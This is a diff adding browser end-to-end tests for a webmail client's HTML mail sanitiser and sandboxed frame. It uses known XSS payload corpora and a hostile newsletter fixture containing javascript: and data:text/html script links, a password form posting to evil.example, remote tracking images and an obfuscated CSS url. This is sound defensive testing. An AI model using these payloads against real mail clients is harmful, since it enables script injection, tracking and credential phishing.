@@ -1,0 +1,277 @@
+import { existsSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import type { Frame, Page } from "playwright-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import type { SeedKey } from "../../server/src/testing/suite.ts";
+import { useBrowser, type WatchedPage } from "./browser.ts";
+import { signIn, startHost } from "./host.ts";
+import { post } from "./mail-post.ts";
+
+const CORPORA =
+  process.env["ATRIUM_CORPORA"] ?? join(import.meta.dirname, "../../../shared/corpora");
+const hasCorpora = existsSync(join(CORPORA, "html"));
+if (!hasCorpora) console.log(`No ${CORPORA}/html: the payloads of others are not tested.`);
+
+interface Payload {
+  readonly payload: string;
+}
+
+const browser = useBrowser();
+let host: Awaited<ReturnType<typeof startHost>>;
+beforeAll(async () => {
+  host = await startHost();
+});
+afterAll(() => host?.close());
+
+function payloads(): string[] {
+  return ["dompurify", "h5sc"].flatMap((name) => {
+    const file = readFileSync(join(CORPORA, `html/${name}.json`), "utf8");
+    return (JSON.parse(file) as Payload[]).map(({ payload }) => payload);
+  });
+}
+
+async function openInbox(who: SeedKey): Promise<WatchedPage> {
+  const context = await browser.context();
+  await signIn(context, host, who);
+  return browser.open(host.url, { context });
+}
+
+/** The frame of the open mail, once the mail is in it. */
+async function mailFrame(page: Page): Promise<Frame> {
+  const handle = await page.waitForSelector("iframe[data-ready]");
+  return (await handle.contentFrame())!;
+}
+
+async function openMail(page: Page, subject: string): Promise<Frame> {
+  await page.getByRole("row").filter({ hasText: subject }).click();
+  await page.getByRole("heading", { level: 2, name: subject }).waitFor();
+  return mailFrame(page);
+}
+
+test.skipIf(!hasCorpora)(
+  "no payload of the known collections runs a script, opens anything or asks anybody",
+  async () => {
+    const bodies = payloads();
+    expect(bodies.length).toBeGreaterThan(370);
+    // Shared among three windows, which do not wait for each other.
+    const readers = ["alice", "dave", "jimin"] as const;
+    await post(
+      host,
+      bodies.map((html, index) => ({
+        to: host.people[readers[index % readers.length]!].address,
+        subject: `payload-${index}`,
+        // Words around it, so that the payload stands inside a page.
+        html: `<p>before</p>${html}<p>after</p>`,
+      })),
+    );
+    const seen = await Promise.all(readers.map(readAll));
+    expect(new Set(seen.flat()).size).toBe(bodies.length);
+  },
+  120_000,
+);
+
+/** Opens every mail of a person's inbox, one after the other; answers their subjects. */
+async function readAll(who: SeedKey): Promise<string[]> {
+  const opened = await openInbox(who);
+  const { page } = opened;
+  const events: string[] = [];
+  page.on("dialog", (dialog) => {
+    events.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.context().on("page", (other) => events.push(`window: ${other.url()}`));
+  page.on("download", (download) => events.push(`download: ${download.url()}`));
+  page.on("framenavigated", (frame) => {
+    const isMail = new URL(frame.url(), host.url).pathname === "/frame/mail";
+    if (frame !== page.mainFrame() && !isMail && frame.url() !== "about:blank")
+      events.push(`navigation: ${frame.url()}`);
+  });
+  await page.getByRole("row").first().click();
+  const subjects: string[] = [];
+  const title = page.locator(".mail-reader-title h2");
+  for (;;) {
+    const subject = (await title.textContent())!;
+    const frame = await mailFrame(page);
+    const found = await frame.evaluate(hazards);
+    expect({ subject, found }).toEqual({ subject, found: [] });
+    subjects.push(subject);
+    const next = page.getByRole("button", { name: "Older conversation" });
+    if (await next.isDisabled()) break;
+    await page.keyboard.press("j");
+    await expect
+      .poll(() => title.textContent(), { interval: 10, timeout: 10_000 })
+      .not.toBe(subject);
+  }
+  expect(events).toEqual([]);
+  const asked = opened.requests
+    .map(({ url }) => url)
+    .filter((url) => /^https?:/.test(url))
+    .map((url) => new URL(url))
+    .filter(({ origin, pathname }) => origin !== host.url || !OURS.test(pathname));
+  expect(asked.map(String)).toEqual([]);
+  expect(opened.requests.filter(({ status = 200 }) => status >= 400)).toEqual([]);
+  await opened.expectQuiet({ allow: CLEANING });
+  await page.context().close();
+  return subjects;
+}
+
+/**
+ * A mail is parsed and cleaned in a document without a window that shares its frame's policy; the browser says of each
+ * handler there that it would not run. What is then shown holds none: `hazards` looks.
+ */
+const CLEANING = [/Blocked script execution in/, /Setting the document's base URI/];
+
+/** What the client itself asks for. */
+const OURS =
+  /^\/(?:$|mail\/folder\/|assets\/|remotes\/drive\/|api\/session$|jmap\/|\.well-known\/jmap$|frame\/mail$)/;
+
+/** Whatever in a shown mail could run, load, send or take over; runs inside its frame. */
+function hazards(): string[] {
+  const found: string[] = [];
+  const forbidden =
+    "script, iframe, frame, object, embed, form, input, button, textarea, select, link, meta, base, video, audio, source, svg, math, template";
+  for (const element of document.body.querySelectorAll(forbidden)) found.push(element.localName);
+  for (const element of document.querySelectorAll("*"))
+    for (const { name, value } of element.attributes) {
+      if (name.startsWith("on")) found.push(`${element.localName} ${name}`);
+      if (
+        /^(?:href|action|data|background|xlink:href|formaction|srcset|poster)$/.test(name) &&
+        !/^(?:https?:|mailto:|tel:|#)/i.test(value)
+      )
+        found.push(`${name}=${value}`);
+      if (name === "src" && !/^(?:data:image\/|blob:)/.test(value)) found.push(`src=${value}`);
+    }
+  return found;
+}
+
+const NEWSLETTER = `<!doctype html><html><head>
+<title>Weekly</title>
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<link rel="stylesheet" href="https://evil.example/style.css">
+<style>
+@import url("https://evil.example/import.css");
+@font-face { font-family: Brand; src: url(https://evil.example/brand.woff2) }
+body { margin: 0; background-color: #f4efe6 }
+.card { background-color: rgb(255, 255, 255); border-radius: 12px; padding: 24px }
+.hero { background-image: u\\72l(https://evil.example/hero.png); background-color: rgb(10, 80, 60) }
+h1.title { color: rgb(180, 40, 20); font-size: 31px; text-transform: uppercase }
+@media (max-width: 5000px) { .wide { letter-spacing: 3px } }
+@media (prefers-color-scheme: dark) { .card { background-color: rgb(0, 0, 0) } }
+</style></head>
+<body bgcolor="#f4efe6">
+<table width="600" align="center" style="border-collapse: collapse"><tr><td class="card" background="https://evil.example/td.png">
+<div class="hero" style="padding: 7px; background: rgb(10, 80, 60) url('https://evil.example/inline.png')">hero</div>
+<h1 class="title" style="margin: 5px 0">Hello</h1>
+<p class="wide" style="color: rgb(1, 2, 3)">text</p>
+<img src="https://evil.example/pixel.gif" width="1" height="1">
+<img src="https://evil.example/photo.jpg" width="200" height="100" alt="A photo">
+<img src="cid:logo@test" width="20" height="20" alt="Logo" id="logo">
+<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" id="dot" alt="">
+<a id="good" href="https://shop.example/offer?x=1">offer</a>
+<a id="bad" href="javascript:alert(1)">bad</a>
+<a id="sly" href="data:text/html,<script>alert(1)</script>">sly</a>
+<a id="here" href="#end">down</a>
+<form action="https://evil.example/"><input name="password"><button>Go</button></form>
+<p id="end">end</p></td></tr></table></body></html>`;
+
+const LOGO = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+  "base64",
+);
+
+test("a newsletter keeps its styles and own pictures; what it wants from elsewhere is blocked and counted", async () => {
+  await post(host, [
+    {
+      to: "bob@demo.test",
+      subject: "Weekly",
+      html: NEWSLETTER,
+      attachments: [
+        { filename: "logo.png", content: LOGO, cid: "logo@test", contentType: "image/png" },
+      ],
+    },
+  ]);
+  const opened = await openInbox("bob");
+  const { page } = opened;
+  const frame = await openMail(page, "Weekly");
+  const style = (selector: string, name: string): Promise<string> =>
+    frame.evaluate(
+      ([selector, name]) =>
+        getComputedStyle(document.querySelector(selector!)!).getPropertyValue(name!),
+      [selector, name],
+    );
+  expect(await style("body", "background-color")).toBe("rgb(244, 239, 230)");
+  expect(await style(".card", "background-color")).toBe("rgb(255, 255, 255)");
+  expect(await style(".card", "border-radius")).toBe("12px");
+  expect(await style(".hero", "background-color")).toBe("rgb(10, 80, 60)");
+  expect(await style(".hero", "background-image")).toBe("none");
+  expect(await style(".hero", "padding-top")).toBe("7px");
+  expect(await style("h1.title", "color")).toBe("rgb(180, 40, 20)");
+  expect(await style("h1.title", "font-size")).toBe("31px");
+  expect(await style("h1.title", "text-transform")).toBe("uppercase");
+  expect(await style("h1.title", "margin-top")).toBe("5px");
+  expect(await style(".wide", "letter-spacing")).toBe("3px");
+  expect(await style(".wide", "color")).toBe("rgb(1, 2, 3)");
+
+  expect(
+    await frame.evaluate(() => document.querySelector<HTMLImageElement>("#logo")!.naturalWidth),
+  ).toBe(1);
+  expect(await frame.locator("#dot").getAttribute("src")).toContain("data:image/gif");
+  expect(await frame.locator("#good").getAttribute("rel")).toBe("noopener noreferrer");
+  expect(await frame.locator("#good").getAttribute("target")).toBe("_blank");
+  expect(await frame.locator("#bad").getAttribute("href")).toBeNull();
+  expect(await frame.locator("#sly").getAttribute("href")).toBeNull();
+  expect(await frame.locator("form, input, button, link, meta").count()).toBe(0);
+  // Import, font, two heroes, a table's background, two pictures.
+  await page.getByText("7 images are blocked").waitFor();
+
+  await frame.locator("#good").hover();
+  await page.getByText("https://shop.example/offer?x=1").waitFor();
+  await opened.expectQuiet();
+  await page.context().close();
+});
+
+test("the frame is as high as its mail, and keys pressed inside it still act", async () => {
+  await post(host, [
+    { to: "carol@demo.test", subject: "Tall", html: `<div style="height: 2400px">tall</div>` },
+    {
+      to: "carol@demo.test",
+      subject: "Wide",
+      html: `<div style="width: 1800px; height: 90px">wide</div>`,
+    },
+  ]);
+  const opened = await openInbox("carol");
+  const { page } = opened;
+  await openMail(page, "Tall");
+  await expect
+    .poll(() => page.locator("iframe").evaluate((element) => element.clientHeight))
+    .toBeGreaterThan(2390);
+  const frame = await openMail(page, "Wide");
+  await expect
+    .poll(() => frame.evaluate(() => document.body.getBoundingClientRect().width))
+    .toBeLessThan(1200);
+  await frame.locator("div").click();
+  await page.keyboard.press("s");
+  await expect
+    .poll(() =>
+      page
+        .getByRole("row")
+        .filter({ hasText: "Wide" })
+        .locator(".mail-star")
+        .getAttribute("data-on"),
+    )
+    .toBe("true");
+  await opened.expectQuiet();
+  await page.context().close();
+});
+
+test("the frame itself refuses scripts, forms and foreign addresses, should anything get past the cleaning", async () => {
+  const opened = await openInbox("bob");
+  const { page } = opened;
+  const response = await page.context().request.get(`${host.url}/frame/mail`);
+  const policy = response.headers()["content-security-policy"]!;
+  for (const rule of ["default-src 'none'", "form-action 'none'", "base-uri 'none'", "sandbox"])
+    expect(policy).toContain(rule);
+  expect(policy).not.toContain("allow-scripts");
+  expect(policy).not.toContain("allow-top-navigation");
+  await page.context().close();
+});
